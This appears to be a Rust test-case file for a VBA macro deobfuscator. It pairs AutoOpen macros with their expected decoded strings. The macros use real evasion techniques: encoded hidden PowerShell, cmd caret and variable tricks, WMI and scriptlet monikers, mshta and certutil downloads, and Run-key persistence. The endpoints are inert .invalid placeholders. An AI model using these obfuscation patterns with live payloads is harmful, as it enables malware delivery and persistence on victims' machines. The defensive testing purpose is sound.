//! Texts that the command line decodes, and names of objects in pieces.

use super::{Case, case};

pub(super) const CASES: &[Case] = &[
    case(
        "an encoded command",
        "inert-encoded",
        r#"
Sub AutoOpen()
    Shell "powershell -e aQBuAGUAcgB0AC0AZQBuAGMAbwBkAGUAZAA=", 0
End Sub
"#,
    ),
    case(
        "an encoded command in pieces",
        "Get-Inert https://example.invalid/encoded.txt",
        r#"
Sub AutoOpen()
    Dim c As String
    c = "pow" & "ersh" & "ell -w hid" & "den -ENC" & "OD "
    c = c & "RwBlAHQALQBJAG4AZ"
    c = c & "QByAHQAIABoAHQAdA"
    c = c & "BwAHMAOgAvAC8AZQB"
    c = c & "4AGEAbQBwAGwAZQAu"
    c = c & "AGkAbgB2AGEAbABpA"
    c = c & "GQALwBlAG4AYwBvAG"
    c = c & "QAZQBkAC4AdAB4AHQ"
    c = c & "A"
    CreateObject("WScript.Shell").Run c, 0, False
End Sub
"#,
    ),
    case(
        "carets",
        "powershell -w hidden inert-caret.invalid",
        r#"
Sub AutoOpen()
    Shell "cmd /c p^ow^er^she^ll -w hi^dd^en in^ert-ca^ret.inv^alid"
End Sub
"#,
    ),
    case(
        "variables of the command line",
        "mshta https://example.invalid/set.hta",
        r#"
Sub AutoOpen()
    Shell "cmd /c set a=msh&& set b=ta https://exam&& set c=ple.invalid/set.hta&& call %a%%b%%c%"
End Sub
"#,
    ),
    case(
        "delayed variables of the command line",
        "powershell inert-delayed.invalid",
        r#"
Sub AutoOpen()
    Shell "cmd.exe /V:ON /C ""set x=ershell in&&set y=pow&&set z=ert-delayed.invalid&&!y!!x!!z!""", vbHide
End Sub
"#,
    ),
    case(
        "parts of variables of the command line",
        "powershell inert-part.invalid",
        r#"
Sub AutoOpen()
    Shell "cmd /c set s=xxpowershellxx&& call %s:~2,10% inert-part.invalid"
End Sub
"#,
    ),
    case(
        "pieces joined by PowerShell",
        "https://example.invalid/joined.ps1",
        r#"
Sub AutoOpen()
    Shell "powershell -c ""$u='https://exa'+'mple.inv'+'alid/joi'+'ned.ps1';inert $u"""
End Sub
"#,
    ),
    case(
        "pieces put in order by PowerShell",
        "https://example.invalid/format",
        r#"
Sub AutoOpen()
    Shell "powershell -c ""inert ('{2}{0}{1}' -f 'ple.invalid','/format','https://exam')"""
End Sub
"#,
    ),
    case(
        "filling taken out by PowerShell",
        "https://example.invalid/replaced",
        r#"
Sub AutoOpen()
    Shell "powershell -c ""inert ('httQWps://examQWple.invaQWlid/replQWaced' -replace 'QW','')"""
End Sub
"#,
    ),
    case(
        "backticks",
        "Inert-Expression https://example.invalid",
        r#"
Sub AutoOpen()
    Shell "powershell -c ""I`ne`rt-Ex`pres`sion htt`ps://exam`ple.inv`alid"""
End Sub
"#,
    ),
    case(
        "base64 decoded by PowerShell",
        "https://example.invalid/from64",
        r#"
Sub AutoOpen()
    Dim p
    p = "powershell [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
    Shell p & "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvZnJvbTY0" & "'))"
End Sub
"#,
    ),
    case(
        "a command in a command in a variable",
        "certutil -urlcache -f https://example.invalid/inert.txt",
        r#"
Sub AutoOpen()
    Dim sh As Object
    Set sh = VBA.CreateObject(Chr(87) & "Script" & Chr(46) & "Shell")
    sh.Run StrReverse("c/ dmc") & " ""cer" & "tutil -url" & "cache -f htt" & "ps://exam" & "ple.invalid/inert.txt"""
End Sub
"#,
    ),
    case(
        "a moniker in pieces",
        "winmgmts:\\\\.\\root\\cimv2:Win32_Process",
        r#"
Sub AutoOpen()
    Dim m As String
    m = "win" & "mgm" & Chr(116) & "s:" & "\\.\ro" & "ot\ci" & "mv2:" & "Win" & CStr(32) & "_Pro" & "cess"
    GetObject(m).Create "inert-test.invalid", Null, Null, p
End Sub
"#,
    ),
    case(
        "a class by number in pieces",
        "new:13709620-C279-11CE-A49E-444553540000",
        r#"
Sub AutoOpen()
    Set o = GetObject("ne" & "w:137" & "09620-C27" & "9-11CE-A49E" & "-4445535" & "40000")
    o.ShellExecute "inert-test.invalid"
End Sub
"#,
    ),
    case(
        "a script by moniker",
        "script:https://example.invalid/inert.sct",
        r#"
Sub AutoOpen()
    Call GetObject(StrReverse("tcs.treni/dilavni.elpmaxe//:sptth:tpircs"))
End Sub
"#,
    ),
    case(
        "a method by name",
        "inert-by-name.invalid",
        r#"
Sub AutoOpen()
    Dim o As Object
    Set o = CreateObject("WSc" & "ript.She" & "ll")
    CallByName o, "R" & "un", VbMethod, "ine" & "rt-by-" & "name.inv" & "alid", 0
End Sub
"#,
    ),
    case(
        "a macro by name",
        "cmd /c inert-run.invalid",
        r#"
Sub AutoOpen()
    Application.Run "St" & "ep" & 2, "rt-run"
End Sub

Sub Step2(part As String)
    Shell "cmd /c ine" & part & ".invalid"
End Sub
"#,
    ),
    case(
        "lines of a script",
        "CreateObject(\"WScript.Shell\").Run \"inert-script.invalid\"",
        r#"
Sub AutoOpen()
    Dim f As Integer
    f = FreeFile
    Open Environ("TEMP") & "\inert.vbs" For Output As #f
    Print #f, "CreateObject(""WScr" & "ipt.Shell" & Chr(34) & ").R" & "un ""inert-scr" & "ipt.invalid"""
    Close #f
End Sub
"#,
    ),
    case(
        "a key of the registry in pieces",
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\inert",
        r#"
Sub AutoOpen()
    Dim k As String
    k = "HK" & "CU\Soft" & "ware\Micro" & "soft\Win" & "dows\Curr" & "entVer" & "sion\R" & "un\inert"
    CreateObject("WScript.Shell").RegWrite k, "inert-test.invalid", "REG_SZ"
End Sub
"#,
    ),
    case(
        "a request in pieces",
        "https://example.invalid/request.bin",
        r#"
Sub AutoOpen()
    Dim x As Object
    Set x = CreateObject("MSX" & "ML2.XM" & "LHTTP")
    x.Open "G" & "ET", Join(Array("https:/", "example.invalid", "request.bin"), "/"), False
    x.send
End Sub
"#,
    ),
];
